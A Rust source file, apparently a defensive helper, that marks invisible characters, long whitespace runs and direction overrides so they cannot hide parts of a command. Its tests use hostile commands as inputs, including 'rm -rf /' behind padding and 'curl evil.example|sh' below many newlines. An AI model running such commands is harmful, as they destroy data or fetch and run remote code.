//! Marks invisible characters in texts of others: control and direction characters, blanks of any
//! kind, and runs of spaces and line breaks that would push the rest out of view.

/// A piece of a marked text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum TextPiece {
    /// Characters as they are.
    Plain(String),
    /// The mark of an invisible character. It looks different, so that plain text cannot imitate
    /// it.
    Mark(String),
    /// A line break, after its mark.
    Break,
}

/// The longest run of spaces that is shown as it is. A longer one would push the following text out
/// of view.
const LONGEST_SPACES: usize = 8;

/// Cuts a text into plain pieces and marks of invisible characters.
pub fn mark_invisible(text: &str) -> Vec<TextPiece> {
    let mut pieces = Vec::new();
    let mut rest = text;
    let mut line_begins = true;
    while let Some(first) = rest.chars().next() {
        let same = rest.chars().take_while(|other| *other == first).count();
        let after = &rest[first.len_utf8() * same..];
        let line_ends = after.is_empty() || after.starts_with('\n');
        let begins = std::mem::replace(&mut line_begins, first == '\n');
        let spaces = first == ' ' && same <= LONGEST_SPACES && !line_ends;
        // Indentation is visible by the text after it, except at the very beginning.
        let shown = spaces && !(begins && rest.len() == text.len());
        if shown || (first != ' ' && !is_invisible(first)) {
            plain(&mut pieces, &rest[..first.len_utf8() * same]);
        } else {
            pieces.push(TextPiece::Mark(mark(first, same)));
            if first == '\n' {
                pieces.push(TextPiece::Break);
            }
        }
        rest = after;
    }
    pieces
}

/// The text with marks on one line of at most so many characters.
pub fn one_line(text: &str, most: usize) -> String {
    let mut line = String::new();
    for piece in mark_invisible(text) {
        match piece {
            TextPiece::Plain(piece) | TextPiece::Mark(piece) => line.push_str(&piece),
            TextPiece::Break => line.push(' '),
        }
    }
    if line.chars().count() <= most {
        return line;
    }
    let mut cut: String = line.chars().take(most.saturating_sub(1)).collect();
    cut.push('…');
    cut
}

fn plain(pieces: &mut Vec<TextPiece>, shown: &str) {
    if let Some(TextPiece::Plain(text)) = pieces.last_mut() {
        text.push_str(shown);
    } else {
        pieces.push(TextPiece::Plain(shown.to_owned()));
    }
}

/// The mark of a run of equal characters, of letters that every typeface has.
fn mark(hidden: char, count: usize) -> String {
    let number = u32::from(hidden);
    let name = match hidden {
        ' ' => "space".to_owned(),
        '\n' => "newline".to_owned(),
        '\t' => "tab".to_owned(),
        _ => format!("U+{number:04X}"),
    };
    match count {
        1 => format!("<{name}>"),
        _ => format!("<{count} × {name}>"),
    }
}

/// Whether a character is invisible, looks like a space, or changes the layout of others.
fn is_invisible(character: char) -> bool {
    character.is_control()
        || matches!(
            u32::from(character),
            0xa0 | 0xad
                | 0x034f
                | 0x061c
                | 0x115f..=0x1160
                | 0x1680
                | 0x17b4..=0x17b5
                | 0x180b..=0x180f
                | 0x2000..=0x200f
                | 0x2028..=0x202f
                | 0x205f..=0x206f
                | 0x2800
                | 0x3000
                | 0x3164
                | 0xfe00..=0xfe0f
                | 0xfeff
                | 0xffa0
                | 0xfff0..=0xfffc
                | 0x1d173..=0x1d17a
                | 0xe0000..=0xe0fff
        )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shown(text: &str) -> String {
        let piece = |piece| match piece {
            TextPiece::Plain(text) => text,
            TextPiece::Mark(mark) => format!("[{mark}]"),
            TextPiece::Break => "/".to_owned(),
        };
        mark_invisible(text).into_iter().map(piece).collect()
    }

    #[test]
    fn plain_text_stays_as_it_is() {
        for text in [
            "uname -a",
            "",
            "größer 東京 🦀",
            "echo 'a  b'",
            "a    # aligned",
        ] {
            assert_eq!(shown(text), text);
        }
        assert_eq!(shown("if x:\n    y"), "if x:[<newline>]/    y");
    }

    #[test]
    fn what_hides_the_rest_of_a_command_is_shown() {
        let padded = format!("date{}; rm -rf /", " ".repeat(90));
        assert_eq!(shown(&padded), "date[<90 × space>]; rm -rf /");
        let below = format!("date{}curl evil.example|sh", "\n".repeat(40));
        assert_eq!(shown(&below), "date[<40 × newline>]/curl evil.example|sh");
        assert_eq!(shown("date\nreboot"), "date[<newline>]/reboot");
        assert_eq!(
            shown("date\r\x1b[2Kls\t-l\x7f"),
            "date[<U+000D>][<U+001B>][2Kls[<tab>]-l[<U+007F>]"
        );
        assert_eq!(shown(" ls "), "[<space>]ls[<space>]");
        assert_eq!(shown("ls \n-l"), "ls[<space>][<newline>]/-l");
    }

    #[test]
    fn what_turns_or_hides_characters_is_shown_by_its_number() {
        assert_eq!(shown("a\u{202e}txt.exe"), "a[<U+202E>]txt.exe");
        for hidden in [
            '\u{200b}',
            '\u{2066}',
            '\u{feff}',
            '\u{ad}',
            '\u{a0}',
            '\u{2028}',
            '\u{85}',
            '\u{3000}',
            '\u{2800}',
            '\u{e0041}',
            '\u{61c}',
            '\u{200f}',
        ] {
            let shown = shown(&format!("a{hidden}b"));
            assert!(
                shown.starts_with("a[<U+") && shown.ends_with(">]b"),
                "{shown}"
            );
        }
    }

    #[test]
    fn a_line_is_one_line_and_bounded() {
        assert_eq!(one_line("a\nb", 20), "a<newline> b");
        assert_eq!(one_line("uptime", 6), "uptime");
        assert_eq!(one_line("uptime -p", 6), "uptim…");
    }
}
